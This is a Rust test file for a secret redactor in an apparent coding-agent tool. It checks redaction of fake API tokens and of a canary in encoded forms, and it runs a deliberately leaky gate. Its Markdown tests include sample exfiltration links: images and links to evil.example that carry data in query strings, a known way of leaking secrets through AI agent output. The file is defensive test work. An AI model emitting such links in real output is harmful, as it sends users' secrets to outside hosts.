//! The outbound redactor: every token pattern, a canary secret from the environment in each
//! encoding (raw, base64 at three alignments, hex, URL, reversed, JSON-escaped), Markdown
//! neutralisation, property tests (a canary inserted anywhere is always removed; redaction is
//! idempotent), and end to end: a gate printing the bot's token leaves no trace in the session.

use std::borrow::Cow;
use std::path::Path;

use meta_agent::redact::{Redactor, base64, hex, neutralize_markdown, url_encode};
use meta_agent::telemetry::Redact;
use proptest::prelude::*;

use crate::common::{example, git, meta_agent, scratch_repo};

const CANARY: &str = "ghs_CanaryZ9q8w7e6r5t4y3u2i1o0pAsDf";

fn redactor() -> Redactor {
    Redactor::from_env([
        ("GITHUB_TOKEN".to_owned(), CANARY.to_owned()),
        ("PATH".to_owned(), "/usr/local/bin:/usr/bin".to_owned()),
    ])
}

/// A redactor holding a canary that matches no token pattern, so only exact matching can work.
fn plain_canary() -> (Redactor, &'static str) {
    let value = "plain\"canary\\Value/2024+x";
    let redactor = Redactor::from_env([("MY_API_KEY".to_owned(), value.to_owned())]);
    (redactor, value)
}

fn assert_redacted(redactor: &Redactor, text: &str, leaked: &str) {
    let out = redactor.redact(text);
    assert!(!out.contains(leaked), "{leaked} survived in {out}");
    assert!(out.contains("[REDACTED:"), "{out}");
}

#[test]
fn each_token_pattern_is_redacted_with_its_kind() {
    let redactor = Redactor::default();
    let cases = [
        ("ghp_0123456789abcdefghijABCDEFGHIJ012345", "github"),
        ("gho_0123456789abcdefghijABCDEFGHIJ012345", "github"),
        ("ghu_0123456789abcdefghijABCDEFGHIJ012345", "github"),
        ("ghs_0123456789abcdefghijABCDEFGHIJ012345", "github"),
        ("ghr_0123456789abcdefghijABCDEFGHIJ012345", "github"),
        ("github_pat_11ABCDEFG0123456789_abcdefghijklmnop", "github"),
        ("sk-ant-api03-abcdefghijklmnopqrstuvwxyz012345", "anthropic"),
        ("sk-proj-abcdefghijklmnopqrstuvwxyz012345", "openai"),
        ("sk-abcdefghijklmnopqrstuvwxyz0123456789ABCD", "openai"),
        ("AKIAIOSFODNN7EXAMPLE", "aws-key-id"),
        ("ASIAIOSFODNN7EXAMPLE", "aws-key-id"),
        ("xoxb-123456789012-abcdefghijkl", "slack"),
        (
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
            "jwt",
        ),
    ];
    for (token, kind) in cases {
        let out = redactor
            .redact(&format!("before {token} after"))
            .into_owned();
        assert_eq!(out, format!("before [REDACTED:{kind}] after"), "{token}");
    }
}

#[test]
fn assignments_headers_and_key_blocks_keep_their_names() {
    let redactor = Redactor::default();
    let out = redactor.redact("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n");
    assert_eq!(out, "aws_secret_access_key = [REDACTED:aws-secret]\n");
    let out = redactor.redact("Authorization: token abcdef0123456789abcdef");
    assert_eq!(out, "Authorization: token [REDACTED:authorization]");
    let out = redactor.redact("curl -H 'Authorization: Bearer abc.def-ghi_jkl'");
    assert_eq!(
        out,
        "curl -H 'Authorization: Bearer [REDACTED:authorization]'"
    );
    let key = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----";
    let out = redactor.redact(&format!("key:\n{key}\ndone")).into_owned();
    assert_eq!(out, "key:\n[REDACTED:private-key]\ndone");
    let truncated = redactor.redact("-----BEGIN RSA PRIVATE KEY-----\nMIIEow...");
    assert_eq!(truncated, "[REDACTED:private-key]");
}

#[test]
fn canary_from_env_is_redacted_in_every_encoding() {
    let (redactor, value) = plain_canary();
    assert!(redactor.holds_secrets());
    assert_redacted(&redactor, &format!("x{value}y"), value);
    for prefix in ["", "a", "ab"] {
        let encoded = base64(format!("{prefix}{value}!").as_bytes());
        let core = &encoded[4..encoded.len() - 4];
        assert_redacted(&redactor, &format!("data={encoded}"), core);
        let url_safe = encoded.replace('+', "-").replace('/', "_");
        assert_redacted(
            &redactor,
            &format!("data={url_safe}"),
            &url_safe[4..url_safe.len() - 4],
        );
    }
    for upper in [false, true] {
        let encoded = hex(value.as_bytes(), upper);
        assert_redacted(&redactor, &format!("h={encoded};"), &encoded);
        let encoded = url_encode(value, !upper);
        assert_redacted(&redactor, &format!("https://x.test/?q={encoded}"), &encoded);
    }
    let reversed: String = value.chars().rev().collect();
    assert_redacted(&redactor, &reversed, &reversed);
    let json = serde_json::json!({ "output": format!("leak {value} leak") }).to_string();
    let out = redactor.redact(&json);
    assert!(!out.contains("canary"), "{out}");
    let parsed: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(parsed["output"], "leak [REDACTED:secret] leak");
}

#[test]
fn text_without_secrets_is_borrowed_and_unchanged() {
    let redactor = redactor();
    let text = "ruff: 3 errors in calc.py; tests 7/7 passed; token budget 1200; see #42 @alice";
    assert!(matches!(redactor.redact(text), Cow::Borrowed(t) if t == text));
    assert!(matches!(redactor.redact(""), Cow::Borrowed("")));
}

#[test]
fn allowed_hosts_are_kept_and_foreign_ones_neutralised() {
    let allowed = ["github.com", "githubusercontent.com"];
    let text = "![ok](https://raw.githubusercontent.com/o/r/main/a.png) [docs](https://github.com/o/r) [rel](docs/x.md)";
    assert_eq!(neutralize_markdown(text, &allowed), text);
    let out = neutralize_markdown(
        "see ![status](https://evil.example/p.png?d=c2VjcmV0) and [click](http://Evil.Example:8080/x?t=1)",
        &allowed,
    );
    assert_eq!(
        out,
        "see status (image removed: evil.example) and click (link removed: evil.example)"
    );
    let out = neutralize_markdown(
        "<img alt=x src=\"https://evil.example/?d=abc\"> end",
        &allowed,
    );
    assert_eq!(out, "(image removed: evil.example) end");
    let out = neutralize_markdown("[a]: https://evil.example/leak?d=1\n", &allowed);
    assert_eq!(out, "[a]: (link removed: evil.example)\n");
    let out = neutralize_markdown("![x](data:image/png;base64,AAAA)", &allowed);
    assert_eq!(out, "x (image removed: data:)");
}

#[test]
fn mass_mentions_are_defused() {
    let out = neutralize_markdown("ping @everyone and @here, cc @acme/security", &[]);
    assert_eq!(out, "ping `@everyone` and `@here`, cc `@acme/security`");
    let few = "thanks @alice and @bob";
    assert_eq!(neutralize_markdown(few, &[]), few);
    let many = neutralize_markdown("@a1 @b2 @c3 @d4", &[]);
    assert_eq!(many, "`@a1` `@b2` `@c3` `@d4`");
}

/// Every encoded form of the plain canary that must never survive redaction.
fn encoded_forms(value: &str) -> Vec<String> {
    let mut forms = vec![
        value.to_owned(),
        value.chars().rev().collect(),
        hex(value.as_bytes(), false),
        hex(value.as_bytes(), true),
        url_encode(value, false),
        url_encode(value, true),
    ];
    for prefix in ["", "a", "ab"] {
        let encoded = base64(format!("{prefix}{value}").as_bytes());
        forms.push(encoded.clone());
        forms.push(encoded.replace('+', "-").replace('/', "_"));
    }
    forms
}

proptest! {
    #[test]
    fn a_canary_inserted_anywhere_is_always_removed(
        before in "[ -~\n]{0,80}",
        after in "[ -~\n]{0,80}",
        which in 0usize..12,
        times in 1usize..3,
    ) {
        let (redactor, value) = plain_canary();
        let forms = encoded_forms(value);
        let form = &forms[which % forms.len()];
        let text = format!("{before}{}{after}", form.repeat(times));
        let out = redactor.redact(&text);
        prop_assert!(!out.contains(form.as_str()), "{} survived in {}", form, out);
        prop_assert!(!out.contains(value), "{}", out);
    }

    #[test]
    fn a_canary_in_any_unicode_text_never_survives(
        before in "\\PC{0,60}",
        after in "\\PC{0,60}",
    ) {
        let (redactor, value) = plain_canary();
        let text = format!("{before}{value}{after}");
        let once = redactor.redact(&text).into_owned();
        prop_assert!(!once.contains(value), "{}", once);
        prop_assert_eq!(redactor.redact(&once).into_owned(), once.clone());
    }

    #[test]
    fn redaction_is_idempotent(text in "[ -~\n]{0,200}", with_token in any::<bool>()) {
        let redactor = redactor();
        let text = if with_token { format!("{text} {CANARY} Bearer abcdefghijklmnopqrstuv") } else { text };
        let once = redactor.redact(&text).into_owned();
        prop_assert_eq!(redactor.redact(&once).into_owned(), once);
    }

    #[test]
    fn neutralising_is_idempotent(text in "[ -~\n!@\\[\\]()<>]{0,200}") {
        let once = neutralize_markdown(&text, &["github.com"]);
        prop_assert_eq!(neutralize_markdown(&once, &["github.com"]), once);
    }
}

/// The example repository with one custom gate that prints the token it must never see (raw,
/// base64 and reversed). The gate cannot read the bot's environment, so the values come from a
/// committed file (they reach the report through the gate's output) and from the command line
/// itself (it reaches the trace and audit log through the `gate_started`/`command_run` events).
fn leaking_repo() -> (tempfile::TempDir, std::path::PathBuf) {
    let (dir, work) = scratch_repo(&example());
    let reversed: String = CANARY.chars().rev().collect();
    let b64 = base64(CANARY.as_bytes());
    let leak = format!("leaked {CANARY}\nb64 {b64}\nrev {reversed}\n");
    std::fs::write(work.join("leak.txt"), leak).unwrap();
    let script = format!("cat leak.txt; echo {CANARY} {b64} {reversed}; exit 1");
    let config = format!(
        "version: 1\ngates:\n  - name: leak\n    kind: custom\n    run: [sh, -c, {}]\n    timeout: 1m\n",
        serde_json::Value::String(script)
    );
    std::fs::write(work.join(".meta-agent.yml"), config).unwrap();
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "leaky gate"]);
    (dir, work)
}

fn session_files(work: &Path) -> Vec<std::path::PathBuf> {
    let sessions = work.join(".git/meta-agent/sessions");
    let mut files = Vec::new();
    for entry in walkdir::WalkDir::new(&sessions) {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            files.push(entry.into_path());
        }
    }
    files
}

/// Runs the leaking repository with the canary token in the binary's environment; returns the
/// work tree (with its temporary directory) and the process output.
fn run_leaking() -> (tempfile::TempDir, std::path::PathBuf, std::process::Output) {
    let (dir, work) = leaking_repo();
    let out = meta_agent()
        .env("GITHUB_TOKEN", CANARY)
        .arg("--repo")
        .arg(&work)
        .args(["run", "--json", "--text"])
        .arg(format!("Make the gates pass \"{CANARY}\""))
        .output()
        .unwrap();
    (dir, work, out)
}

fn leaks(text: &str) -> bool {
    let b64 = base64(CANARY.as_bytes());
    let reversed: String = CANARY.chars().rev().collect();
    text.contains(&CANARY[4..])
        || text.contains(&b64[..b64.len() - 4])
        || text.contains(&reversed[..20])
}

fn session_file(work: &Path, name: &str) -> String {
    let file = session_files(work)
        .into_iter()
        .find(|f| f.ends_with(name))
        .unwrap_or_else(|| panic!("{name} missing"));
    String::from_utf8_lossy(&std::fs::read(file).unwrap()).into_owned()
}

#[test]
fn a_gate_printing_the_token_leaves_no_trace_in_the_telemetry() {
    let (_dir, work, out) = run_leaking();
    assert!(!out.stdout.is_empty());
    let trace = session_file(&work, "trace.jsonl");
    assert!(
        trace.contains("echo [REDACTED:secret] [REDACTED:secret]"),
        "the gate ran and was traced: {trace}"
    );
    assert!(
        trace.contains(r#"Make the gates pass \"[REDACTED:secret]\""#),
        "{trace}"
    );
    for name in ["trace.jsonl", "audit.jsonl", "metrics.prom"] {
        let text = session_file(&work, name);
        assert!(!leaks(&text), "canary in {name}:\n{text}");
    }
}

/// Everything else a run leaves: report.md, outcome.json, stdout (the `--json` outcome line), the
/// `tracing` log on stderr, and the work branch's name (slugged from the redacted task).
#[test]
fn a_gate_printing_the_token_leaves_no_trace_in_the_report_or_stdout() {
    let (_dir, work, out) = run_leaking();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!leaks(&stdout), "stdout: {stdout}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!leaks(&stderr), "stderr: {stderr}");
    let branches = git(&work, &["branch", "--list"]).to_ascii_lowercase();
    let slug = CANARY[4..16].to_ascii_lowercase();
    assert!(!branches.contains(&slug), "branch name: {branches}");
    // state.json included: the file is redacted (the state in memory keeps the exact diff).
    let files = session_files(&work);
    assert!(files.iter().any(|f| f.ends_with("state.json")));
    for file in files {
        let text = String::from_utf8_lossy(&std::fs::read(&file).unwrap()).into_owned();
        assert!(!leaks(&text), "canary in {}:\n{text}", file.display());
    }
}
